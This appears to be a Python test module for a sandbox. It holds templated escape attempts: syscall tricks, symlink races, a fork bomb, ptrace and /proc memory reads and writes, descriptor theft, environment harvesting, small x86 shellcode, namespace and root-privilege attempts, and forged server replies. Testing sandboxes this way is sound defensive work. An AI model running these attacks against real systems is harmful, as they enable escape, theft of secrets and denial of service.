"""The attacks: Python programs that try to get out, with {names} of the scene filled in.

A program prints THROUGH when it believes that it got out; `hold()` keeps it still for a moment, so that what it has
become can be seen from outside. Native code is at hand through ctypes: no attack is kept from the kernel by Python.
"""

from collections.abc import Mapping

HEAD = """
import ctypes, os, platform, resource, signal, socket, struct, sys, time
libc = ctypes.CDLL(None, use_errno=True)
arm = platform.machine() == "aarch64"
def through(*why): print("THROUGH", *why, flush=True)
def hold(): time.sleep(0.12)
def won(result, *why):
    if result >= 0: through(*why); hold()
    return result
def call(x86, other, *rest): return libc.syscall(other if arm else x86, *rest)
def native(code, low):
    libc.mmap.restype = ctypes.c_void_p
    spot = libc.mmap(None, ctypes.c_size_t(4096), 7, 0x22 | low, -1, ctypes.c_long(0))
    ctypes.memmove(spot, code, len(code))
    return spot, ctypes.CFUNCTYPE(ctypes.c_long)(spot)
"""

FILES = {
    "read a file": "print(open({canary!r}).read())",
    "read a file by a raw call": "fd = call(257, 56, -100, {canary!r}.encode(), 0); print(os.read(fd, 99))",
    "read a file by its handle": """
class Handle(ctypes.Structure): _fields_ = [("n", ctypes.c_uint), ("t", ctypes.c_int), ("h", ctypes.c_char * 128)]
h, m = Handle(n=128), ctypes.c_int()
libc.name_to_handle_at(-100, {canary!r}.encode(), ctypes.byref(h), ctypes.byref(m), 0)
print(os.read(libc.open_by_handle_at(os.open({folder!r}, 0), ctypes.byref(h), 0), 99))""",
    "read a file through /proc": """
for pid in ("self", "1", "{driver}", "{witness}"):
    try: print(open(f"/proc/{{pid}}/root" + {canary!r}).read())
    except OSError: pass""",
    "measure a file": "print('size', os.stat({measured!r}).st_size)",
    "list a folder": "print(os.listdir({folder!r}))",
    "write a new file": "open({loot!r}, 'w').write('x')",
    "overwrite a file": "os.write(os.open({ledger!r}, os.O_WRONLY), b'x')",
    "truncate a file": "os.truncate({ledger!r}, 0)",
    "delete a file": "os.unlink({ledger!r})",
    "rename a file": "os.rename({ledger!r}, {loot!r})",
    "link a file": "os.link({own!r}, {loot!r})",
    "change a file's mode": "os.chmod({own!r}, 0o777)",
    "race with links": """
for n in range(200):
    try: os.symlink({canary!r} if n % 2 else "/nowhere", {loot!r})
    except FileExistsError: os.unlink({loot!r})
    try: print(open({loot!r}).read())
    except FileNotFoundError: pass
os.symlink({canary!r}, {loot!r} + "2")""",
    "make a pipe in a folder": "os.mkfifo({loot!r})",
    "make a device": "os.mknod({loot!r}, 0o600 | 0o020000, os.makedev(1, 3))",
    "make a folder": "os.mkdir({loot!r})",
    "fill the disk": "f = open({loot!r}, 'wb'); [f.write(bytes(1 << 20)) for _ in range(32)]",
    "write to shared memory": "open('/dev/shm/{nonce}', 'w').write('x'); hold()",
    "watch a folder": "won(libc.inotify_add_watch(won(libc.inotify_init1(0)), {folder!r}.encode(), 0xfff))",
    "a file in memory": "won(os.memfd_create('{nonce}'))",
    "call as a 32-bit program": """
if arm: raise SystemExit("no such calls")
path = {loot!r}.encode() + bytes(1)
spot, run = native(b"\\x90", 0x40)
code = b"\\x53\\xb8\\x27\\0\\0\\0\\xbb" + struct.pack("<I", spot + 64) + b"\\xb9\\xff\\x01\\0\\0\\xcd\\x80\\x5b\\xc3"
ctypes.memmove(spot, code, len(code)); ctypes.memmove(spot + 64, path, len(path))
run()""",
    "call by x32 numbers": "won(libc.syscall(0x40000000 | 83, {loot!r}.encode(), 0o777))",
}

NETWORK = {
    "TCP": "socket.create_connection(('127.0.0.1', {tcp}), 2)",
    "TCP over IPv6": "socket.create_connection(('::1', {tcp6}), 2)",
    "TCP fast open": """
s = socket.socket(); s.setblocking(False)
try: s.sendto(b'x', 0x20000000, ('127.0.0.1', {tcp}))
except BlockingIOError: pass
hold()""",
    "UDP": "socket.socket(type=socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', {udp}))",
    "a socket file": "socket.socket(socket.AF_UNIX).connect({unix!r})",
    "a datagram to a socket file": "socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b'x', {datagram!r})",
    "an abstract socket": "socket.socket(socket.AF_UNIX).connect('\\x00{nonce}')",
    "netlink": "s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0); s.bind((0, 0)); through(); hold()",
    "a raw socket": "s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW); through(); hold()",
    "a listener": "s = socket.create_server(('127.0.0.1', 0)); through(); hold()",
    "a socket to virtual machines": "s = socket.socket(40, socket.SOCK_STREAM); through(); hold()",
    "a pair of sockets": "s = socket.socketpair(); through(); hold()",
}

PROCESSES = {
    "fork bomb": """
for _ in range(20):
    if os.fork() == 0: hold(); os._exit(0)
hold()""",
    "fork by a raw call": "pid = call(57, -1) if not arm else call(-1, 220, 17, 0, 0, 0, 0); hold(); os._exit(0)",
    "clone3": """
args = (ctypes.c_uint64 * 11)(); args[4] = 17
pid = libc.syscall(435, args, 88)
hold()
os._exit(0) if pid == 0 else None""",
    "threads": "import threading; [threading.Thread(target=hold).start() for _ in range(20)]",
    "run a command": "os.execv({python!r}, [{python!r}, '-c', 'import time; time.sleep(0.3) # {nonce}'])",
    "run a command from memory": """
fd = os.memfd_create('x', 0); os.write(fd, open({python!r}, 'rb').read())
argv = (ctypes.c_char_p * 5)(b'{nonce}', b'-S', b'-c', b'import time; time.sleep(0.3)', None)
call(322, 281, fd, b'', argv, (ctypes.c_char_p * 1)(None), 0x1000)""",
    "spawn a command": "os.posix_spawn({python!r}, ['{nonce}', '-c', 'import time; time.sleep(0.3)'], {{}}); hold()",
    "signal a process": "os.kill({witness}, signal.SIGUSR1)",
    "kill a process": "os.kill({witness}, signal.SIGKILL)",
    "signal a group": "os.killpg({witness}, signal.SIGUSR1)",
    "signal everybody": "os.kill(-1, signal.SIGWINCH)",
    "signal a thread": "call(234, 131, {witness}, {witness}, 10)",
    "queue a signal": "libc.sigqueue({witness}, 10, 0)",
    "signal by a pidfd": "fd = libc.syscall(434, {witness}, 0); libc.syscall(424, fd, 10, 0, 0)",
    "signal through a pipe": """
import fcntl
r, w = os.pipe()
fcntl.fcntl(r, 8, {witness}); fcntl.fcntl(r, 10, 10); fcntl.fcntl(r, 4, 0x2000); os.write(w, b'x')""",
    "kill the server": "os.kill(os.getppid(), signal.SIGKILL); time.sleep(0.2)",
    "steal a descriptor": """
fd = libc.syscall(434, {witness}, 0)
print(os.read(libc.syscall(438, fd, {secret_fd}, 0), 99))""",
    "trace a process": "won(libc.ptrace(0x4206, {witness}, 0, 0))",
    "trace the server": "won(libc.ptrace(0x4206, os.getppid(), 0, 0))",
    "read a process's memory": """
b = ctypes.create_string_buffer(64)
class V(ctypes.Structure): _fields_ = [("p", ctypes.c_void_p), ("n", ctypes.c_size_t)]
libc.process_vm_readv({witness}, ctypes.byref(V(ctypes.addressof(b), 64)), 1, ctypes.byref(V({address}, 64)), 1, 0)
print(b.raw)""",
    "write a process's memory": """
b = ctypes.create_string_buffer(b'overwritten', 16)
class V(ctypes.Structure): _fields_ = [("p", ctypes.c_void_p), ("n", ctypes.c_size_t)]
libc.process_vm_writev({witness}, ctypes.byref(V(ctypes.addressof(b), 16)), 1, ctypes.byref(V({address}, 16)), 1, 0)
hold()""",
    "read memory through /proc": "print(os.pread(os.open('/proc/{witness}/mem', 0), 64, {address}))",
    "write memory through /proc": "os.pwrite(os.open('/proc/{witness}/mem', 1), b'overwritten', {address}); hold()",
    "read a process's environment": "print(open('/proc/{witness}/environ').read())",
    "read every environment": """
for pid in filter(str.isdigit, os.listdir('/proc')):
    try: print(open(f'/proc/{{pid}}/environ', errors='replace').read()[-4000:])
    except OSError: pass""",
    "read its own environment": """
libc.getenv.restype = ctypes.c_char_p
print(dict(os.environ), libc.getenv(b'PROVENDER_CANARY'))""",
    "use inherited descriptors": """
for fd in range(3, 256):
    try: print(os.pread(fd, 99, 0))
    except OSError: pass
    try: os.pwrite(fd, b'x', 0)
    except OSError: pass""",
    "open the driver's descriptors": """
for fd in range(3, 64):
    try: print(os.pread(os.open(f'/proc/{driver}/fd/{{fd}}', 0), 99, 0))
    except OSError: pass""",
    "lower a process's priority": "os.setpriority(os.PRIO_PROCESS, {witness}, 15)",
    "bind a process to a core": "os.sched_setaffinity({witness}, {{0}})",
    "change a process's limits": "resource.prlimit({witness}, resource.RLIMIT_CORE, (0, 0))",
    "forge the server's answer": """
frame = b'{{"ended": "finished", "exit": 0, "cpu_s": 0, "stdout": "forged", "error": ""}}'
for fd in range(4, 64):
    try: os.write(fd, struct.pack("=I", len(frame)) + frame)
    except OSError: pass
os._exit(0)""",
}

RESOURCES = {
    "take memory": "b = bytearray(600 << 20); hold()",
    "take memory after raising the limit": """
for bound in (resource.RLIMIT_AS, resource.RLIMIT_DATA):
    try: resource.setrlimit(bound, (-1, -1))
    except (ValueError, OSError): pass
b = bytearray(600 << 20); hold()""",
    "burn CPU": """
[signal.signal(n, signal.SIG_IGN) for n in (signal.SIGXCPU, signal.SIGTERM, signal.SIGALRM)]
end = time.process_time() + 2.5
while time.process_time() < end: pass""",
    "sleep": "time.sleep(4)",
    "flood stdout": "for _ in range(300): os.write(1, b'x' * 65536)",
    "flood stderr": "for _ in range(300): os.write(2, b'x' * 65536)\nthrough()",
}

KERNEL = {
    "io_uring": "won(libc.syscall(425, 8, ctypes.create_string_buffer(120)))",
    "bpf": "won(call(321, 280, 0, struct.pack('=IIIII', 2, 4, 4, 1, 0) + bytes(100), 120))",
    "userfaultfd": "won(call(323, 282, 0x80000 | 1))",
    "perf events": "won(call(298, 241, struct.pack('=IIQ', 1, 128, 0) + bytes(112), 0, -1, -1, 0))",
    "keys of the kernel": "won(call(248, 217, b'user', b'{nonce}', b'x', 1, -4))",
    "a user namespace": "won(libc.unshare(0x10000000))",
    "a mount namespace": "won(libc.unshare(0x00020000))",
    "a network namespace": "won(libc.unshare(0x10000000 | 0x40000000))",
    "a mount": "libc.unshare(0x10020000); won(libc.mount(b'{nonce}', b'/dev', b'tmpfs', 0, None))",
    "another's namespace": "won(libc.setns(libc.syscall(434, {witness}, 0), 0x00020000))",
    "another root": "os.chroot('/usr'); through(); hold()",
    "another personality": "libc.personality(0x0040000); hold()",
    "shared memory of System V": "won(libc.shmget({key}, 4096, 0o1600))",
    "messages of System V": "won(libc.msgget({key}, 0o1600))",
    "semaphores of System V": "won(libc.semget({key}, 1, 0o1600))",
    "a POSIX message queue": "won(libc.mq_open(b'/{nonce}', 0o102, 0o600, None))",
    "become root": "os.setresuid(0, 0, 0); print(open({locked!r}).read())",
    "become somebody else": "os.setresuid(1, 1, 1); hold()",
    "other groups": "os.setgroups([1, 2, 3]); hold()",
    "capabilities": """
libc.capset(struct.pack('=II', 0x20080522, 0), struct.pack('=6I', 1, 1, 1, 0, 0, 0)); hold()""",
    "ports of the machine": "won(-1 if arm else call(172, 0, 3))",
    "a new filter": """
code = struct.pack('=HBBI', 6, 0, 0, 0x7fff0000); b = ctypes.create_string_buffer(code)
won(libc.prctl(22, 2, struct.pack('=H6xQ', 1, ctypes.addressof(b)), 0, 0)); print(open({canary!r}).read())""",
}

GROUPS: Mapping[str, Mapping[str, str]] = {
    "files": FILES,
    "network": NETWORK,
    "processes": PROCESSES,
    "resources": RESOURCES,
    "kernel": KERNEL,
}
ATTACKS: Mapping[str, str] = {
    f"{group}: {name}": HEAD + text for group, attacks in GROUPS.items() for name, text in attacks.items()
}
# Seconds that an attack is given, where its point is to outlast them.
HASTY: Mapping[str, float] = {"resources: sleep": 1.0}
# Not run without walls: it would reach processes that are not ours.
NEVER_BARE = ("processes: signal everybody",)
